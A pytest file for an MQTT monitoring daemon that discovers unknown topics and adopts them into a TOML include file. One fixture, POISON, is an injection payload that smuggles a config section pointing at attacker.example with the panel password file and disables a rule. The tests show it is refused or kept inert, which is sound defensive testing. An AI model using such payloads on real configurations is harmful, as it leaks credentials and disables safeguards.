"""Unknown topics: heard at a real broker, guessed by device, and adopted into a file that the loader takes."""

import json
import re
import threading
import time
import tomllib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from broker import free_port, mosquitto
from desk import PASSWORD, PASSWORD_HASH
from test_adapters_mqtt import Inbox, publish

from adapters.mqtt import MqttTransport
from adapters.source import MqttSource
from adapters.topic_search import TopicSearch
from adapters.unknown_topics import MOST_TOPICS, UnknownTopics
from daemon.clock import SystemClock
from daemon.config import load
from daemon.config.adopted import Adopted, AdoptedFile
from daemon.config.toml_text import quoted
from daemon.finding import TopicFinder
from daemon.wiring import wire
from dashboard.unknown import Choice, Unknown, Value, Wish, field_name

CONFIG = """\
[site]
id = "s"
[[building]]
id = "d"
kind = "dormitory"
rooms = ["101-104"]
[[source]]
name = "broker"
kind = "mqtt"
url = "mqtt://127.0.0.1:{port}"
  [[source.topic]]
  filter = "meters/{{building}}/{{room}}"
  payload = "number"
  quantity = "power_w"
"""


class School:
    """A configuration with its finder."""

    def __init__(self, folder: Path, *, port: int = 1883) -> None:
        self.config = folder / "caretaker.toml"
        self.config.write_text(CONFIG.format(port=port), encoding="utf-8")
        self.topics = UnknownTopics()
        source = load(self.config, environ={}).sources[0]
        assert isinstance(source, MqttSource)
        self.search = TopicSearch(source, clock=time.time, note=self.topics.note, own=(b"caretaker/s/",))
        self.file = AdoptedFile.of(self.config, folder)
        self.finder = TopicFinder(
            {"broker": self.search}, self.topics, self.file, local=lambda at: datetime.fromtimestamp(at, UTC),
            clock=lambda: 0.0,
        )  # fmt: skip

    def hear(self, *messages: tuple[str, str], at: float = 0.0) -> "School":
        for topic, payload in messages:
            self.topics.note("broker", topic.encode(), payload.encode(), at)
        return self

    def found(self, name: str) -> Unknown:
        return next(item for item in self.finder.unknown() if item.name == name)

    def adopt(
        self, name: str, place: str, *wanted: tuple[str, str, str], channel: str = "", part: str = ""
    ) -> list[str]:
        wish = Wish(
            {channel: (place, part)},
            {(path, channel): Choice(quantity, unit) for path, quantity, unit in wanted}, 60.0, False,
        )  # fmt: skip
        return list(self.finder.adopt(self.found(name).key, wish, "en"))

    def points(self) -> list[str]:
        """The points that the configuration has once its user includes what was adopted."""
        text = self.config.read_text(encoding="utf-8")
        if not text.startswith("include"):
            self.config.write_text(f'include = ["{self.file.include}"]\n{text}', encoding="utf-8")
        loaded = load(self.config, environ={"LANG": "en"})
        return sorted(point for point in loaded.site.points if point.count("/") > 2 - point.endswith("online"))


def wait(done: Callable[[], bool], seconds: float = 10.0) -> None:
    """Until another thread has done something."""
    end, never = time.monotonic() + seconds, threading.Event()
    while not done():
        assert time.monotonic() < end
        never.wait(0.02)


def test_a_noisy_broker_does_not_fill_the_memory() -> None:
    topics = UnknownTopics()
    for number in range(3 * MOST_TOPICS):
        topics.note("b", f"t/{number}".encode(), b"1", float(number))
        topics.note("b", b"steady", b"2", float(number))
    heard = topics.heard()
    assert len(heard) == MOST_TOPICS
    assert heard[0][1:] == ("steady", b"2", 3 * MOST_TOPICS, 0.0, 3 * MOST_TOPICS - 1.0)
    assert heard[-1].topic == f"t/{2 * MOST_TOPICS + 1}"
    topics.note("b", b"large", b"x" * 5000, 0.0)
    assert topics.heard()[0].payload == b""
    topics.note("b", b"n" * 400, b"1", 0.0)
    topics.note("b", b"a\nb", b"1", 0.0)
    topics.note("b", b"emptied", b"", 0.0)
    assert topics.heard()[0].topic == "large"


def test_the_topics_of_a_device_are_one(tmp_path: Path) -> None:
    school = School(tmp_path).hear(
        ("shellies/plug-1/relay/0/power", "12"), ("shellies/plug-1/relay/0/energy", "60"),
        ("shellies/plug-1/online", "true"), ("nobody/knows", "hello"),
    )  # fmt: skip
    for second in range(3):
        school.hear(("shellies/plug-1/relay/0/power", "13"), at=30.0 * (second + 1))
    known, other = school.finder.unknown()
    assert (known.name, known.kind, known.messages, known.every_s, known.last) == (
        "shellies/plug-1", "shelly-gen1", 6, 30.0, 90.0,
    )  # fmt: skip
    assert {value.quantity for value in known.values} == {"power_w", "energy_kwh"}
    assert all(value.unit for value in known.values)
    assert (other.name, other.kind, other.values) == ("nobody/knows", "", ())


def test_an_announcement_names_what_a_payload_does_not_say(tmp_path: Path) -> None:
    announced = '{"stat_t": "x/meter", "dev_cla": "energy", "unit_of_meas": "Wh", "val_tpl": "{{ value_json.E }}"}'
    school = School(tmp_path).hear(("x/meter", '{"E": 5}'))
    assert [(value.path, value.unit) for value in school.found("x/meter").values] == [("E", None)]
    school.hear(("homeassistant/sensor/m/config", announced))
    assert [(value.path, value.unit) for value in school.found("x/meter").values] == [("E", "Wh")]
    ours = '{"stat_t": "caretaker/s/d/101/power_w", "unit_of_meas": "W", "dev_cla": "power"}'
    read = '{"stat_t": "meters/d/101", "unit_of_meas": "W", "dev_cla": "power"}'
    school.hear(("homeassistant/sensor/ours/config", ours), ("homeassistant/sensor/read/config", read))
    assert [item.name for item in school.finder.unknown()] == ["x/meter"]


@pytest.mark.parametrize(
    ("topic", "payload", "wanted", "channel", "points"),
    [
        ("zigbee2mqtt/plug", '{"power": 5, "energy": 1}',
         [("power", "power_w", "W"), ("energy", "energy_kwh", "kWh")], "",
         ["d/102/plug/online", "d/102/sockets/energy_kwh", "d/102/sockets/power_w"]),
        ("zigbee2mqtt/楼 1/x", '{"state_l1": "ON"}', [("state_l1", "on", "")], "l1",
         ["d/102/sockets/on", "d/102/楼-1-x/online"]),
        ("x/meter", '{"E": 5, "P": 7}', [("E", "energy_kwh", "Wh"), ("P", "power_w", "kW")], "",
         ["d/102/sockets/energy_kwh", "d/102/sockets/power_w"]),
        ("x/y/temperature", "20.5", [("", "temperature_c", "C")], "", ["d/102/sockets/temperature_c"]),
        ("x/y/occupied", "ON", [("", "occupied", "")], "", ["d/102/sockets/occupied"]),
        ("esp-1/sensor/socket_power/state", "1.5", [("sensor/socket_power", "power_w", "kW")], "",
         ["d/102/esp-1/online", "d/102/sockets/power_w"]),
    ],
)  # fmt: skip
def test_what_is_adopted_is_measured_after_a_restart(
    tmp_path: Path, topic: str, payload: str, wanted: list[tuple[str, str, str]], channel: str, points: list[str]
) -> None:
    school = School(tmp_path).hear((topic, payload))
    (found,) = school.finder.unknown()
    own = school.config.read_text(encoding="utf-8")
    assert school.adopt(found.name, "d/102", *wanted, channel=channel, part="sockets") == []
    assert school.config.read_text(encoding="utf-8") == own  # the user's own file is never touched
    (found,) = school.finder.unknown()
    assert found.is_adopted
    waiting = school.finder.waiting()
    assert waiting is not None
    assert (waiting.devices, waiting.include) == (1, "adopted.toml")
    assert school.points() == points
    waiting = school.finder.waiting()
    assert waiting is not None
    assert waiting.include == ""


def test_units_are_those_that_were_chosen(tmp_path: Path) -> None:
    school = School(tmp_path).hear(("x/meter", '{"E": 5}'))
    assert school.adopt("x/meter", "d/102", ("E", "energy_kwh", "Wh")) == []
    school.points()
    source = load(school.config, environ={}).sources[0]
    assert isinstance(source, MqttSource)
    assert [field.scale for topic in source.topics for field in topic.fields] == [1.0, 1e-3]


def test_what_clashes_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    school = School(tmp_path).hear(("x/a", '{"P": 5}'), ("x/b", '{"P": 5}'))
    assert school.adopt("x/a", "d/102", ("P", "power_w", "W"), part="ac") == []
    before = school.file.path.read_text(encoding="utf-8")
    (problem,) = school.adopt("x/b", "d/102", ("P", "power_w", "W"), part="ac")
    assert "d/102/ac/power_w" in problem
    assert "adopted.toml" in problem
    assert school.file.path.read_text(encoding="utf-8") == before
    assert not school.found("x/b").is_adopted
    assert school.adopt("x/b", "d/103", ("P", "power_w", "W"), part="ac") == []
    assert school.file.path.read_text(encoding="utf-8").startswith(before.rstrip("\n"))


POISON = (
    'plug\n[[source]]\nname = "evil"\nkind = "mqtt"\nurl = "mqtt://attacker.example:1883"\nusername = "u"\n'
    'password_file = "panel.password"\n[[source.topic]]\nfilter = "a/b"\npayload = "number"\nquantity = "power_w"\n'
    'place = "d/103"\n[[rule]]\nkind = "high_power"\nenabled = false'
)


def announcement(topic: str) -> tuple[str, str]:
    config = {"state_topic": topic, "value_template": "{{ value_json.power }}", "unit_of_measurement": "W",
              "device_class": "power"}  # fmt: skip
    return "homeassistant/sensor/n/power/config", json.dumps(config)


def test_an_announcement_writes_nothing_of_its_own_into_the_file(tmp_path: Path) -> None:
    school = School(tmp_path).hear(announcement(POISON))
    (found,) = school.finder.unknown()
    assert (found.name, found.kind, found.values) == ("homeassistant/sensor/n/power/config", "", ())
    assert "control characters" in found.why
    assert school.adopt(found.name, "d/101", ("power", "power_w", "W"))
    assert not school.file.path.exists()


@pytest.mark.parametrize("comment", [POISON, "a\rb", "a\0b", "a\x7fb", "a\u2028b", "x" * 9999])
def test_whatever_a_comment_holds_it_stays_one(tmp_path: Path, comment: str) -> None:
    school = School(tmp_path)
    topic = Adopted(source="broker", filter="x/a", payload="number", devices={"": ("d/102", "ac")},
                    values=(("", "power_w", "W"),), every_s=60.0, on_change=False)  # fmt: skip
    assert school.file.add(topic, comment=comment, language="en") == []
    text = school.file.path.read_text(encoding="utf-8")
    assert text.replace("\n", "").isprintable()
    assert [len(tables) for tables in tomllib.loads(text).values()] == [1]
    assert school.points() == ["d/102/ac/power_w"]


def test_a_topic_with_line_breaks_is_refused_by_the_file_itself(tmp_path: Path) -> None:
    school = School(tmp_path)
    topic = Adopted(source="broker", filter=POISON, payload="number", devices={"": ("d/102", "")},
                    values=(("", "power_w", "W"),), every_s=60.0, on_change=False)  # fmt: skip
    (problem,) = school.file.add(topic, comment="x", language="en")
    assert "is not a topic filter" in problem
    assert not school.file.path.exists()


@pytest.mark.parametrize("text", ["a\x7fb", 'a"b', "a\\b", "a\nb\r\t\0\x1f", "a\x85\u2028", "功率", "''", '""'])
def test_whatever_a_string_holds_it_stays_one(text: str) -> None:
    assert tomllib.loads(f"x = {quoted(text)}") == {"x": text}


def test_what_is_adopted_already_says_so(tmp_path: Path) -> None:
    school = School(tmp_path).hear(("x/a", '{"P": 5}'))
    assert school.adopt("x/a", "d/102", ("P", "power_w", "W"), part="ac") == []
    assert school.adopt("x/a", "d/102", ("P", "power_w", "W")) == ["It is adopted already, and read after a restart."]
    assert school.finder.adopt("gone", Wish({}, {}, 60.0, False), "zh") == ["已不在听到的内容中，请再搜索一次。"]


def test_what_was_heard_stands_before_what_was_only_announced(tmp_path: Path) -> None:
    school = School(tmp_path).hear(("noise", "??"), ("x/a", '{"P": 5}'), announcement("x/b"))
    assert [(item.name, item.is_heard) for item in school.finder.unknown()] == [
        ("x/a", True), ("x/b", False), ("noise", True),
    ]  # fmt: skip
    school.hear(("x/b", '{"power": 5}'))
    assert school.found("x/b").is_heard


def test_what_people_wrote_into_the_file_stays(tmp_path: Path) -> None:
    school = School(tmp_path).hear(("x/a", '{"P": 5}'))
    by_hand = "# mine\n"
    school.file.path.write_text(by_hand, encoding="utf-8")
    assert school.adopt("x/a", "d/102", ("P", "power_w", "W"), part="ac") == []
    assert school.file.path.read_text(encoding="utf-8").startswith(by_hand)


def test_a_folder_that_cannot_be_written_is_said(tmp_path: Path) -> None:
    school = School(tmp_path).hear(("x/a", '{"P": 5}'))
    school.file = AdoptedFile.of(school.config, tmp_path / "gone")
    school.finder._file = school.file
    (problem,) = school.adopt("x/a", "d/102", ("P", "power_w", "W"), part="ac")
    assert "No such file" in problem
    assert not school.finder.unknown()[0].is_adopted


def test_a_search_hears_what_nobody_subscribes_to_and_then_hangs_up(tmp_path: Path) -> None:
    with mosquitto(tmp_path) as broker:
        school = School(tmp_path, port=broker.port)
        publish(broker.port, [("zigbee2mqtt/kept", b'{"power": 1}')], retain=True)
        assert school.finder.left_s() == 0
        school.finder.search()
        school.finder.search()  # twice is once
        wait(lambda: len(school.finder.unknown()) == 1)
        publish(broker.port, [
            ("meters/d/101", b"5"),  # is read already
            ("caretaker/s/d/101/power_w", b"5"),  # is our own word
            ("zigbee2mqtt/plug", b'{"power": 5}'),
        ])  # fmt: skip
        wait(lambda: len(school.finder.unknown()) == 2)
        assert {item.name for item in school.finder.unknown()} == {"zigbee2mqtt/kept", "zigbee2mqtt/plug"}
        assert 0 < school.finder.left_s() <= 600
        assert not school.finder.troubles()
        school.finder.stop()
        assert school.finder.left_s() == 0
        publish(broker.port, [("zigbee2mqtt/later", b'{"power": 5}')])
        assert len(school.finder.unknown()) == 2


def test_a_search_says_why_it_hears_nothing(tmp_path: Path) -> None:
    school = School(tmp_path, port=free_port())
    school.finder.search()
    wait(lambda: bool(school.finder.troubles()))
    assert school.finder.troubles()[0].startswith("broker: ")
    school.finder.stop()


def test_what_a_wide_subscription_brings_is_listed_too(tmp_path: Path) -> None:
    with mosquitto(tmp_path) as broker:
        school = School(tmp_path, port=broker.port)
        source = load(school.config, environ={}).sources[0]
        assert isinstance(source, MqttSource)
        inbox = Inbox()
        transport = MqttTransport(source, clock=time.time, hand_over=inbox, unknown=school.topics.note)
        transport.start()
        inbox.wait(lambda: {"source/broker/online": 1.0, "source/broker/backlog": 0.0} in inbox.states())
        publish(broker.port, [("meters/d/999", b"5")])
        wait(lambda: bool(school.topics.heard()))
        transport.stop()
        assert [item.topic for item in school.topics.heard()] == ["meters/d/999"]


def test_from_a_search_to_a_reading_after_a_restart(tmp_path: Path) -> None:
    (tmp_path / "panel.password").write_text(PASSWORD_HASH, encoding="utf-8")
    (tmp_path / "panel.password").chmod(0o600)
    with mosquitto(tmp_path) as broker:
        config = tmp_path / "caretaker.toml"
        panel = 'clock = "trust"\n[panel]\nlisten = "127.0.0.1:0"\npassword_file = "panel.password"\n[[building]]'
        config.write_text(CONFIG.format(port=broker.port).replace("[[building]]", panel, 1), encoding="utf-8")
        plug = [("zigbee2mqtt/plug", b'{"power": 61.7}')]
        publish(broker.port, plug, retain=True)
        gateway = wire(load(config, environ={}), SystemClock(trusted=True), died=lambda _: None)
        gateway.start()
        with httpx.Client(base_url="http://{}:{}".format(*gateway.server.address)) as browser:
            browser.post("/sign-in", data={"password": PASSWORD})
            browser.post("/unknown/search")
            wait(lambda: "zigbee2mqtt/plug" in browser.get("/sources").text)
            (key,) = re.findall(r'href="/unknown/(\w+)"', browser.get("/sources").text)
            value = Value("power", "power_w", "W").name
            form = {field_name("place", ""): "d/102", field_name("part", ""): "ac", value: "power_w|W", "every": "60"}
            answer = browser.post(f"/unknown/{key}", data=form)
            assert answer.status_code == 303, answer.text
            assert "include = [&#34;adopted.toml&#34;]" in browser.get("/sources").text.replace('"', "&#34;")
        gateway.stop()
        config.write_text(f'include = "adopted.toml"\n{config.read_text(encoding="utf-8")}', encoding="utf-8")
        gateway = wire(load(config, environ={}), SystemClock(trusted=True), died=lambda _: None)
        gateway.start()
        wait(lambda: gateway.driver.ask(gateway.pipeline.health)["broker"].online is True)
        publish(broker.port, plug)
        wait(lambda: "d/102/ac/power_w" in gateway.driver.ask(gateway.pipeline.newest))
        gateway.stop()
